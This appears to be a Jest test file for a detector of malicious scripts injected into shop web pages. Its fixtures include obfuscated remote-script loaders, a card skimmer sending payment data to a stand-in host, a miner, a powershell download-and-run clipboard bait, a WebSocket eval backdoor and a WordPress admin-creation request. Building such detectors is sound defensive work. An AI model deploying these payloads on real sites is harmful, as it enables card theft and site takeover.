import { describe, expect, test } from '@jest/globals'
import { analyseScripts } from './script-analysis.ts'
import { scriptHash } from './script-hash.ts'

const pageUrl = 'https://shop.test/a'
const page = (inside = '', nonce = 'r4nd0mN0nce1'): string => `<!doctype html><html><head><title>Shop</title>
<meta name="csrf-token" content="${nonce}"><script src="/app.js?v=${nonce}"></script>
<script nonce="${nonce}">window.app={csrfToken:"${nonce}","nonce":"${nonce}",time:17${nonce.length}0000000,build:"2026.11.${nonce.length}"}</script>
<script>(function(w,d,s,l,i){w[l]=w[l]||[];var f=d.getElementsByTagName(s)[0],j=d.createElement(s);j.async=true;j.src='https://www.googletagmanager.com/gtm.js?id='+i;f.parentNode.insertBefore(j,f);})(window,document,'script','dataLayer','GTM-ABC');</script>
</head><body><h1>Shop</h1>${inside}</body></html>`
const inline = (code: string): string => `<script>${code}</script>`

const codes = (text: string): string =>
  text
    .split('')
    .map((letter) => letter.charCodeAt(0))
    .join(',')
const escapes = (text: string): string =>
  text
    .split('')
    .map((letter) => `\\x${letter.charCodeAt(0).toString(16)}`)
    .join('')
const percents = (text: string): string =>
  text
    .split('')
    .map((letter) => `%${letter.charCodeAt(0).toString(16)}`)
    .join('')
const base64 = (text: string): string => Buffer.from(text).toString('base64')
const loader = `(function(){var s=document.createElement('script');s.src='https://cdn.bad-host.test/a.js';document.head.appendChild(s);})();`

const malicious: readonly [string, string][] = [
  ['runs character codes', `eval(String.fromCharCode(${codes(loader)}))`],
  [
    'writes a tag in character codes',
    `var e=document.createElement(String.fromCharCode(${codes('script')}));e.src=String.fromCharCode(${codes('https://a.test/m.js')});document.head.appendChild(e)`,
  ],
  [
    'moves character codes',
    `var a=[${loader
      .split('')
      .map((letter) => letter.charCodeAt(0) + 7)
      .join(',')}],r='';for(var i=0;i<a.length;i++)r+=String.fromCharCode(a[i]-7);eval(r)`,
  ],
  ['runs base64', `eval(atob('${base64(loader)}'))`],
  [
    'loads from base64',
    `var s=document.createElement('script');s.src=atob('${base64('https://a.test/x.js')}');document.body.appendChild(s)`,
  ],
  ['runs percent codes', `eval(unescape('${percents(loader)}'))`],
  ['writes percent codes', `document.write(unescape('${percents('<script src=//a.test/l.js></script>')}'))`],
  [
    'spells in escapes',
    `var a=["${escapes('createElement')}","${escapes('script')}","${escapes('https://a.test/a.js')}"];var e=document[a[0]](a[1]);e.src=a[2];document.head.append(e)`,
  ],
  ['cuts words', `var s=document['cre'+'ateEl'+'ement']('scr'+'ipt');s.src='//a.test/a.js';document.head.append(s)`],
  [
    'writes backwards',
    `var s=document.createElement('script');s.src='${'https://a.test/a.js'.split('').reverse().join('')}'.split('').reverse().join('');document.head.append(s)`,
  ],
  ['mixes in junk', `s.src='${'https://a.test/a.js'.split('').join('#')}'.replace(/#/g,'')`],
  [
    'has the names of an obfuscator',
    `var _0x1a2b=['a'];(function(_0x2b3c,_0x3c4d){var _0x4d5e=function(_0x5e6f){while(--_0x5e6f){_0x2b3c.push(_0x2b3c.shift())}};_0x4d5e(++_0x3c4d)}(_0x1a2b,0x1f));var _0x6f70=1`,
  ],
  ['is written in brackets', '[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]+(![]+[])[!+[]+!+[]]]'.repeat(6)],
  [
    'reads cards',
    `setInterval(function(){var d={};document.querySelectorAll('input,select').forEach(function(e){d[e.name]=e.value});if(d['payment[cc_number]']&&d.cvv){new Image().src='https://g.test/i.gif?d='+btoa(JSON.stringify(d))}},3000);document.addEventListener('x',function(){})`,
  ],
  ['mines', `new CoinHive.Anonymous('key').start()`],
  ['baits the clipboard', `b.onclick=function(){navigator.clipboard.writeText('powershell -w h -c "iwr https://a.test|iex"')}`],
  [
    'leads searchers elsewhere',
    `if(document.referrer.match(/google|bing/)&&document.cookie.indexOf('v')<0){location.href='https://a.test/go'}`,
  ],
  ['runs what a socket sends', `var w=new WebSocket('wss://a.test/s');w.onmessage=function(e){eval(e.data)}`],
  [
    'makes an administrator',
    `var x=new XMLHttpRequest();x.open('POST','/wp-admin/user-new.php');x.send('action=createuser&_wpnonce_create-user='+nonce)`,
  ],
]

/** As they stand on pages everywhere. */
const benign: readonly [string, string][] = [
  [
    'an old counter',
    `document.write(unescape("%3Cscript src='" + h + "google-analytics.com/ga.js' type='text/javascript'%3E%3C/script%3E"));`,
  ],
  ['a fallback', `window.jQuery || document.write('<scr'+'ipt src="/jquery.js"><\\/scr'+'ipt>')`],
  ['a hidden address', `eval(decodeURIComponent('${percents(`document.write('<a href="mailto:info@shop.test">mail</a>');`)}'))`],
  ['a hidden address in codes', `document.write('<a href="mailto:'+String.fromCharCode(${codes('info@shop.test')})+'">x</a>')`],
  ['flags', `s([55356,56826,55356,56819],[55356,56826,8203,55356,56819]);var c=String.fromCharCode`],
  [
    'a counter in a frame',
    `document.write('<iframe src="https://1.fls.doubleclick.net/a?" width="1" height="1" style="display:none"></iframe>');`,
  ],
  ['settings in base64', `init(JSON.parse(atob("${base64('{"api":"https://api.shop.test","k":[1,2,3]}')}")))`],
  [
    'a packed player',
    `eval(function(p,a,c,k,e,d){return p}('0("1").2({3:"4"})',36,5,'jwplayer|v|setup|file|https://cdn.shop.test/a.m3u8'.split('|')))`,
  ],
  ['a global', `var g=Function("return this")();`],
  [
    'tags in escapes',
    `var s='\\x3cdiv class\\x3d\\x22g\\x22\\x3e\\x3ca href\\x3d\\x22https://shop.test/\\x22\\x3e';d.innerHTML=s`,
  ],
  [
    'a card form',
    `var n=$('#cardNumber').val(),c=$('#cvv').val();$('#f').on('submit',function(){$.post('/pay',$(this).serialize())})`,
  ],
]

describe('without a baseline', () => {
  test.each(malicious)('%s', (_name, code) => expect(analyseScripts(inline(code)).verdict).toBe('malicious'))
  test.each(malicious)('as a bare script: %s', (_name, code) => expect(analyseScripts(code).verdict).toBe('malicious'))
  test.each(benign)('is not alarmed by %s', (_name, code) => expect(analyseScripts(inline(code)).severity).toBeNull())
  test('looks into handlers and data addresses', () => {
    expect(analyseScripts(`<img src=x onerror="eval(atob('${base64(loader)}'))">`).verdict).toBe('malicious')
    const hidden = base64(`eval(String.fromCharCode(${codes(loader)}))`)
    expect(analyseScripts(`<script src="data:text/javascript;base64,${hidden}"></script>`).verdict).toBe('malicious')
  })
  test('data is no script', () =>
    expect(analyseScripts(`<script type="application/json">{"a":"eval(atob('YWxlcnQoMSk='))"}</script>`).scripts).toEqual([]))
})

describe('with a baseline', () => {
  const baseline = analyseScripts(page(), undefined, { pageUrl })
  const after = (html: string, isSensitive = false) => analyseScripts(html, baseline, { pageUrl, isSensitive })

  test('one-time codes, dates and versions are no change', () => {
    const rotated = after(page('', 'Zx9Kq27LmPw'))
    expect(rotated).toMatchObject({ verdict: 'clean', changes: [], severity: null })
  })
  test.each(malicious)('something new that %s', (_name, code) => {
    const { severity, changes } = after(page(inline(code)))
    expect(changes).toHaveLength(1)
    expect(['high', 'critical']).toContain(severity)
  })
  test.each(benign.filter(([name]) => !/packed|in codes|hidden|base64/.test(name)))(
    'something new and harmless: %s',
    (_name, code) => expect(after(page(inline(code))).severity).toBe('low'),
  )
  test('two weak signals of different families', () => {
    expect(after(page(inline(loader))).severity).toBe('high')
    expect(after(page(inline('eval(x)'))).severity).toBe('low')
    expect(after(page('<iframe src="https://a.test/" width=1 height=1></iframe>')).severity).toBe('high')
    expect(after(page('<script src="https://widget.test/w.js"></script>')).severity).toBe('low')
    expect(after(page('<script src="https://stat1.cheap-ads.top/w.js"></script>')).severity).toBe('high')
  })
  test('where cards are typed it is critical', () => expect(after(page(inline(loader)), true).severity).toBe('critical'))
  test('what was there is no news, however bad', () => {
    const infected = page(inline(`eval(atob('${base64(loader)}'))`))
    expect(analyseScripts(infected, analyseScripts(infected), { pageUrl }).severity).toBeNull()
  })
})

test.each([
  ['a nonce', `f("nonce","a8f3b2c1d0")`, `f("nonce","77aa12bb34")`],
  ['a time', `var t=1732131452123`, `var t=1732139999999`],
  ['a token', `x={csrf_token:"abcDEF"}`, `x={csrf_token:"ghiJKL"}`],
  ['a build', `load("/main.3f9ab2c1.js")`, `load("/main.77d0e1f2.js")`],
  ['an identity', `id='6f1c7f9e-1b1c-4b8e-9b3d-0f9b6f6f6f6f'`, `id='00000000-1b1c-4b8e-9b3d-0f9b6f6f6f6f'`],
])('%s does not change a hash', (_name, a, b) => expect(scriptHash(a)).toBe(scriptHash(b)))

test('a host does', () => expect(scriptHash(`load("https://a.test/x.js")`)).not.toBe(scriptHash(`load("https://b.test/x.js")`)))

test.each([
  '"',
  "'",
  '`',
  '(',
  '\\',
  '["a"]',
  '"a"+',
  '1,',
  'eval(',
  '_0x1a ',
  'fromCharCode 10,',
  'atob ',
  'document.write(',
  '<iframe',
])('is done in time with nothing but %s', (piece) => {
  const started = performance.now()
  analyseScripts(piece.repeat(Math.ceil(65_536 / piece.length)))
  expect(performance.now() - started).toBeLessThan(2_000)
})
